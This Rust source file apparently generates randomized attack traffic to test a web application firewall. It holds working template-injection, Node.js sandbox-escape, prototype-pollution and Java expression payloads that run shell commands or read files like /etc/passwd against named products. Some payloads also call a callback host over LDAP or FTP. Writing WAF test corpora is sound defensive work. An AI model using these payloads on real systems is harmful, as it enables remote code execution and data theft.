//! Templates and scripts that a server evaluates: template engines and the products built on them, Node.js programs and
//! sandboxes, Java expressions put together from pieces.

use medward_waf::AttackClass;

use super::super::super::attack::{AttackGrammar, payload, request};
use super::super::super::codec;
use super::super::super::encode::Encoding;
use super::super::super::place::Place;
use super::super::super::rng::Rng;
use super::super::super::wire::{JSON, Part, Wire, multipart};
use super::tools::{Shot, callback, command, form, json, path, query, sent};

const IN_TARGETS: &[Encoding] = &[Encoding::Plain, Encoding::Percent, Encoding::DoublePercent];
const AS_WRITTEN: &[Encoding] = &[Encoding::Plain, Encoding::JsonEscape];

pub(super) const ATTACKS: &[AttackGrammar] = &[
    payload(
        "ssti-other-engines",
        AttackClass::Ssti,
        34,
        engines,
        &[Place::Query, Place::Form, Place::Cookie],
        IN_TARGETS,
    ),
    request("ssti-products", AttackClass::Ssti, 30, template_products),
    request("node-products", AttackClass::Node, 30, node_products),
    payload(
        "node-sandbox-escapes",
        AttackClass::Node,
        30,
        sandboxes,
        &[Place::Json, Place::Form, Place::Multipart],
        AS_WRITTEN,
    ),
    payload("java-pieces", AttackClass::Java, 30, pieces, Place::PARAMETERS, AS_WRITTEN),
];

/// Tornado, Mako, Django, Go, Pebble, JinJava, Latte, Blade, Slim, EJS, doT, Scriban, and the probes that find which.
fn engines(rng: &mut Rng) -> Vec<u8> {
    let (n, m, word) = (rng.between(100, 9999), rng.between(100, 9999), rng.letters(4));
    let run = rng.pick(&["id", "whoami", "uname -a", "cat /etc/hosts", "sleep 5"]);
    let file = rng.pick(&["passwd", "hosts", "group"]);
    match rng.below(24) {
        0 => format!("{{% import os %}}{{{{os.popen(\"{run}\").read()}}}}{word}"),
        1 => format!("<%\nimport os\n{word}=os.popen('{run}').read()\n%>\n${{{word}}}"),
        2 => format!("{{% debug %}}{{{{settings.SECRET_KEY}}}}{word}"),
        3 => format!("{{{{request|attr(\"\\x5f\\x5finit\\x5f\\x5f\")|attr(\"\\x5f\\x5fglobals\\x5f\\x5f\")|attr(\"\\x5f\\x5fgetitem\\x5f\\x5f\")(\"os\")|attr(\"popen\")(\"{run}\")|attr(\"read\")()}}}}{word}"),
        4 => format!("{{{{printf \"%s%d\" \"{word}\" {n}}}}}{{{{.}}}}"),
        5 => format!("{{{{.System \"{run}\"}}}}{word}"),
        6 => format!("{{% set {word}='{run}' %}}{{{{(1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec({word})}}}}"),
        7 => format!("{{{{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval(\"java.lang.Runtime.getRuntime().exec('{run}');{n}\")}}}}"),
        8 => format!("{{=system('{run}')}}{word}"),
        9 => format!("@php(system('{run}'))@endphp{word}"),
        10 => format!("#{{ %x|{run}| }}{word}"),
        11 => format!("<%- global.process.mainModule.require('child_process').execSync('{run}') %>{word}"),
        12 => format!("{{{{= global.process.mainModule.require('child_process').execSync('{run}') }}}}{word}"),
        13 => format!("${{{{<%[%'\"}}}}%\\.{word}"),
        14 => format!("{{{{{n}*{m}}}}}${{{n}*{m}}}#{{{n}*{m}}}<%={n}*{m}%>{word}"),
        15 => format!("{{% for {word} in (1..{m}) %}}{{% include '/etc/hosts' %}}{{% endfor %}}"),
        16 => format!("{{{{ x = object.from_json('{{}}') }}}}{{{{ file.read_all_text \"/etc/{file}\" }}}}"),
        17 => format!("{{{{ self.__init__.__globals__.__builtins__.__import__('os').popen('{run}').read() }}}}{word}"),
        18 => format!("{{{{ get_flashed_messages.__globals__.__builtins__.open(\"/etc/{file}\").read() }}}}{word}"),
        19 => format!("{{{{joiner|attr(\"__in\"\"it__\")|attr(\"__glo\"\"bals__\")}}}}{word}"),
        20 => format!("{{{{[{n}]|map('passthru')|join}}}}{{{{['{run}']|map('system')|join}}}}"),
        21 => format!("{{{{'/etc/{file}'|file_excerpt(1,{n})}}}}"),
        22 => format!("<#assign {word}=object?api.class.getResource(\"/\").getPath()>${{{word}}}"),
        _ => format!("{{system(\\'{run}\\')}}{{include file=\"data:,{{system('{run}')}}\"}}{word}"),
    }
    .into_bytes()
}

fn template_products(rng: &mut Rng) -> Shot {
    let (run, word) = (command(rng), rng.letters(5));
    match rng.below(15) {
        0 => form("/template/aui/text-inline.vm", format!("label=aaa\\u0027%2b#request.get(\\u0027.KEY_velocity.struts2.context\\u0027).internalGet(\\u0027ognl\\u0027).findValue(#parameters.{word},{{}})%2b\\u0027&{word}=@org.apache.struts2.ServletActionContext@getResponse().setHeader(\\u0027X-Cmd\\u0027,(new+freemarker.template.utility.Execute()).exec({{%22{}%22}}))", codec::percent(&run)).replace('#', "%23"), rng),
        1 => query(format!("/catalog-portal/ui/oauth/verify?error=&deviceUdid={}", codec::percent(format!("${{\"freemarker.template.utility.Execute\"?new()(\"{run}\")}}"))), rng),
        2 => json("/jeecg-boot/jmreport/queryFieldBySql", format!("{{\"sql\":\"select 'result:<#assign ex=\\\"freemarker.template.utility.Execute\\\"?new()> ${{ex(\\\"{run}\\\")}}'\",\"dbSource\":\"\",\"type\":\"0\",\"k\":\"{word}\"}}"), rng),
        3 => query(format!("/webroot/decision/view/ReportServer?test={word}&n={}", codec::percent(format!("${{__fr_locale__=sql('FRDemo',DECODE('%ef%bb%bfATTACH DATABASE \"../webapps/webroot/{word}.jsp\" AS a'),1,1)}}"))), rng),
        4 => query(format!("/bin/get/Main/SolrSearch?media=rss&text={}", codec::percent(format!("}}}}}}{{{{async async=false}}}}{{{{groovy}}}}println(\"{run}\".execute().text+\"{word}\"){{{{/groovy}}}}{{{{/async}}}}"))), rng),
        5 => form("/secure/ContactAdministrators.jspa", format!("from={word}%40mail.example&subject={}&details=v&atl_token=&%E5%8F%91%E9%80%81=Send", codec::form(format!("$i18n.getClass().forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null).exec('{run}').waitFor()"))), rng),
        6 => query(format!("/solr/demo/select?q=1&wt=velocity&v.template=custom&v.template.custom={}", codec::percent(format!("#set($x='') #set($rt=$x.class.forName('java.lang.Runtime')) #set($ex=$rt.getRuntime().exec('{run}')) $ex.waitFor() #set($out=$ex.getInputStream()) #foreach($i in [1..$out.available()])$out.read()#end {word}"))), rng),
        7 => json("/rest/tinymce/1/macro/preview", format!("{{\"contentId\":\"{}\",\"macro\":{{\"name\":\"widget\",\"body\":\"\",\"params\":{{\"url\":\"https://www.viddler.com/v/{word}\",\"width\":\"1000\",\"height\":\"1000\",\"_template\":\"../web.xml\"}}}}}}", rng.digits(6)), rng),
        8 => query(format!("/index.php?tpl={word}&p={}", codec::percent(format!("{{{{['{run}']|filter('passthru')}}}}"))), rng),
        9 => json("/api/v1/ops/playbooks/", format!("{{\"name\":\"{word}\",\"content\":\"[{{{{ lookup('pipe','{run}') }}}}]\"}}"), rng),
        10 => form("/admin/settings/notification", format!("template={}&event={word}", codec::form(format!("{{% with a=request.user.groups.model.user_set.field.model.objects.first.password %}}{{{{ a }}}}{{% endwith %}}{{% include request.GET.t %}}{word}"))), rng),
        11 => query(format!("/render?name={}", codec::percent(format!("{{{{config.items()}}}}{{{{lipsum|string|list}}}}{word}{{{{url_for.__globals__.os.popen(request.args.c).read()}}}}")) + "&c=" + &codec::percent(&run)), rng),
        12 => query(format!("/path?lang={}", codec::percent(format!("__|$${{T(ch.qos.logback.core.util.OptionHelper).instantiateByClassName(\"{word}\",\"\".getClass(),null)}}|__::.x"))), rng),
        13 => form("/wp-admin/admin-ajax.php", format!("action=render_{word}&tpl={}", codec::form(format!("{{{{_self.env.setCache(\"ftp://{}\")}}}}{{{{_self.env.loadTemplate(\"{word}\")}}}}", callback(rng)))), rng),
        _ => path(format!("/doc/{}", codec::percent(format!("__${{new java.lang.ProcessBuilder({{'sh','-c','{run}'}}).start()}}__::.{word}"))), rng),
    }
}

/// Kibana, React Server Components, mock servers, low-code flows, mongo-express, chat servers: each with its own way in.
fn node_products(rng: &mut Rng) -> Shot {
    let (run, word, n) = (command(rng), rng.letters(4), rng.below(99));
    let exec = format!("process.mainModule.require('child_process').execSync('{run}')");
    match rng.below(13) {
        0 => json(
            "/api/timelion/run",
            format!(
                "{{\"sheet\":[{}],\"time\":{{\"from\":\"now-1m\",\"to\":\"now\",\"mode\":\"quick\",\"interval\":\"auto\",\"timezone\":\"Asia/Shanghai\"}}}}",
                codec::json(format!(
                    ".es(*).props(label.__proto__.env.{word}='require(\"child_process\").exec(\"{run}\");process.exit()//').props(label.__proto__.env.NODE_OPTIONS='--require /proc/self/environ')"
                ))
            ),
            rng,
        ),
        1 | 2 => {
            let chunk = format!(
                "{{\"then\":\"$1:__proto__:then\",\"status\":\"resolved_model\",\"reason\":-1,\"value\":\"{{\\\"then\\\":\\\"$B{}\\\"}}\",\"_response\":{{\"_prefix\":{},\"_chunks\":\"$Q2\",\"_formData\":{{\"get\":\"$1:constructor:constructor\"}}}}}}",
                rng.digits(4),
                codec::json(format!(
                    "var res={exec}.toString().trim();throw Object.assign(new Error('NEXT_REDIRECT'),{{digest:`NEXT_REDIRECT;push;/{word}?a=${{res}};307;`}});"
                ))
            );
            let (kind, body) =
                multipart(&[Part::field("0", chunk), Part::field("1", "\"$@0\""), Part::field("2", "[]")], rng);
            (
                sent(
                    Wire::post("/", &kind, body)
                        .header("Next-Action", rng.pick(&["x", "dontcare", "00000000000000000000"])),
                    rng,
                ),
                Place::Multipart,
                Encoding::Plain,
            )
        }
        3 => json(
            "/api/plugin/advmock/save",
            format!(
                "{{\"project_id\":\"{n}\",\"interface_id\":\"{n}\",\"mock_script\":{},\"enable\":true}}",
                codec::json(format!(
                    "const sandbox = this\nconst ObjectConstructor = this.constructor\nconst FunctionConstructor = ObjectConstructor.constructor\nconst myfun = FunctionConstructor('return process')\nconst {word} = myfun()\nmockJson = {word}.mainModule.require(\"child_process\").execSync(\"{run}\").toString()"
                ))
            ),
            rng,
        ),
        4 => form(
            "/checkValid",
            format!(
                "document={}",
                codec::form(format!(
                    "this.constructor.constructor(\"return process\")().mainModule.require(\"child_process\").execSync(\"{run}\")//{word}"
                ))
            ),
            rng,
        ),
        5 => query(
            format!(
                "/page?id={n}&settings%5Bview%20options%5D%5BoutputFunctionName%5D={}",
                codec::percent(format!("x;{exec};{word}"))
            ),
            rng,
        ),
        6 => query(
            format!(
                "/?name={word}&settings[view%20options][client]=true&settings[view%20options][escapeFunction]={}",
                codec::percent(format!("1;return {exec};"))
            ),
            rng,
        ),
        7 => json(
            "/flows",
            format!(
                "[{{\"id\":\"{word}\",\"type\":\"tab\"}},{{\"id\":\"n{n}\",\"type\":\"function\",\"z\":\"{word}\",\"func\":{},\"outputs\":1,\"wires\":[[]]}}]",
                codec::json(format!(
                    "return global.get('process').mainModule.require('child_process').execSync('{run}')"
                ))
            ),
            rng,
        ),
        8 => json(
            "/api/v1/node-load-method/customMCP",
            format!(
                "{{\"loadMethod\":\"listActions\",\"inputs\":{{\"mcpServerConfig\":{}}}}}",
                codec::json(format!(
                    "({{x:(function(){{const cp=process.mainModule.require(\"child_process\");cp.execSync(\"{run}\");return {n};}})()}})"
                ))
            ),
            rng,
        ),
        9 => json(
            "/rest/workflows/run",
            format!(
                "{{\"nodes\":[{{\"name\":\"{word}\",\"type\":\"n8n-nodes-base.set\",\"parameters\":{{\"value\":{}}}}}]}}",
                codec::json(format!("={{{{(function(){{return this.{exec}.toString()}})()}}}}"))
            ),
            rng,
        ),
        10 => json(
            format!("/parse/classes/{word}"),
            format!(
                "{{\"{word}\":{{\"__proto__\":{{\"evalFunctions\":true}}}},\"__type\":\"x\",\"_bsontype\":\"Code\",\"code\":{}}}",
                codec::json(format!("delete ({{}}).evalFunctions;{exec}"))
            ),
            rng,
        ),
        11 => query(
            format!(
                "/api/v1/report?sort[constructor][prototype][{word}]=1&__proto__[NODE_OPTIONS]=--require%20/tmp/{word}&page={n}"
            ),
            rng,
        ),
        _ => {
            let wire = Wire::new("PATCH", "/api/user/preferences").body(JSON, format!("{{\"theme\":\"dark\",\"__proto__\":{{\"execArgv\":[\"--eval=require('child_process').execSync('{run}')\"],\"{word}\":{n}}}}}"));
            (sent(wire, rng), Place::Json, Encoding::Plain)
        }
    }
}

/// Out of `vm`, vm2, expression evaluators and serializers.
fn sandboxes(rng: &mut Rng) -> Vec<u8> {
    let (run, word) = (command(rng), rng.letters(4));
    match rng.below(11) {
        0 => format!("const {word}=new Error();{word}.name={{toString:new Proxy(()=>\"\",{{apply(t,th,args){{const process=args.constructor.constructor(\"return process\")();throw process.mainModule.require(\"child_process\").execSync(\"{run}\").toString()}}}})}};try{{{word}.stack}}catch(s){{s}}"),
        1 => format!("async function {word}(){{(function stack(){{new Error().stack;stack()}})()}}{word}().catch(e=>e.constructor.constructor('return process')().mainModule.require('child_process').execSync('{run}'))"),
        2 => format!("Error.prepareStackTrace=(e,f)=>f[0].getThis().process.mainModule.require('child_process').execSync('{run}');new Error('{word}').stack"),
        3 => format!("(() => {{ TypeError.prototype.get_process = f=>f.constructor(\"return process\")(); try{{ Object.preventExtensions(Buffer.from(\"{word}\")).a = 1; }}catch(e){{ return e.get_process(()=>{{}}).mainModule.require(\"child_process\").execSync(\"{run}\").toString(); }} }})()"),
        4 => format!("{word}=''.sub;{word}['constructor']('return process.binding(\"spawn_sync\")')()//{run}"),
        5 => format!("let {word}=process.getBuiltinModule('child_process');{word}.execSync('{run}')"),
        6 => format!("new (Object.getPrototypeOf(async function(){{}}).constructor)('return import(\"child_process\").then(c=>c.execSync(\"{run}\"))')()/*{word}*/"),
        7 => format!("module.constructor._load('child_process').spawnSync('sh',['-c','{run}']).stdout+'{word}'"),
        8 => format!("cos.constructor(\"return process.mainModule.require('child_process').execSync('{run}').toString()\")()+'{word}'"),
        9 => format!("{{\"toString\":{{\"__js_function\":\"function(){{global.process.mainModule.require('child_process').exec('{run}')}}\"}},\"{word}\":1}}"),
        _ => format!("require('vm').runInNewContext('this.constructor.constructor(\"return process\")().exit({})')//{word}", run.len()),
    }
    .into_bytes()
}

/// Classes and methods by reflection, by parts of strings, by bytes.
fn pieces(rng: &mut Rng) -> Vec<u8> {
    let (run, word, n) = (command(rng).replace('"', "'"), rng.letters(4), rng.between(2, 99));
    let bytes = |text: &str| text.bytes().map(|byte| byte.to_string()).collect::<Vec<_>>().join(",");
    match rng.below(15) {
        0 => format!("T(String).getClass().forName(\"java.l\"+\"ang.Ru\"+\"ntime\").getMethod(\"ex\"+\"ec\",T(String[])).invoke(T(String).getClass().forName(\"java.l\"+\"ang.Ru\"+\"ntime\").getMethod(\"getRu\"+\"ntime\").invoke(null),new String[]{{\"sh\",\"-c\",\"{run}\"}})"),
        1 => format!("T(java.lang.Runtime).getRuntime().exec(new String(new byte[]{{{}}})+'{word}')", bytes("id ")),
        2 => format!("#{{T(javax.naming.InitialContext).doLookup('ldap://{}/{word}')}}", callback(rng)),
        3 => format!("(#{word}=#application['org.apache.tomcat.InstanceManager']).(#e=#{word}.newInstance('freemarker.template.utility.Execute')).(#e.exec({{'{run}'}}))"),
        4 => format!("''.getClass().forName('java.lang.Run'.concat('time')).getMethods()[{n}].invoke(''.getClass().forName('java.lang.Run'.concat('time')).getMethods()[7].invoke(null),'{word}')"),
        5 => format!("var {word}=new('java.lang.ProcessBuilder',['sh','-c','{run}']);{word}.start()"),
        6 => format!("import java.util.Scanner;new Scanner(new ProcessBuilder(\"sh\",\"-c\",\"{run}\").start().getInputStream()).useDelimiter(\"\\\\A\").next()+\"{word}\""),
        7 => format!("use(org.springframework.cglib.core.ReflectUtils);c=Class.forName('com.sun.org.apache.bcel.internal.util.ClassLoader').newInstance();c.loadClass('$$BCEL$$$l$8b$I$A${word}')"),
        8 => format!("@java.lang.Class@forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('java.lang.Thread.sleep({n}000);{word}')"),
        9 => format!("${{''['class']['forName']('java.lang.ProcessBuilder')['getDeclaredConstructors']()[{}]['newInstance'](['sh','-c','{run}'])['start']()}}", n % 2),
        10 => format!("\\u0023_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,\\u0023{word}=@java.lang.Runtime@getRuntime().exec('{run}')"),
        11 => format!("def {word}=new GroovyShell();{word}.evaluate('[\"sh\",\"-c\",\"{run}\"].execute().text')"),
        12 => format!("${{param.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(param.{word})}}"),
        13 => format!("nil.classLoader.loadClass('java.lang.Runtime').getMethod('exec',''.class).invoke(nil.classLoader.loadClass('java.lang.Runtime').getMethod('getRuntime').invoke(nil),'{run}')//{word}"),
        _ => format!("\"\".getClass().forName(\"java.util.Base64\");new javax.script.ScriptEngineManager().getEngineByExtension(\"js\").eval(new String(java.util.Base64.getDecoder().decode(\"{}\")))", codec::base64(format!("java.lang.Runtime.getRuntime().exec(\"{run}\")"))),
    }
    .into_bytes()
}
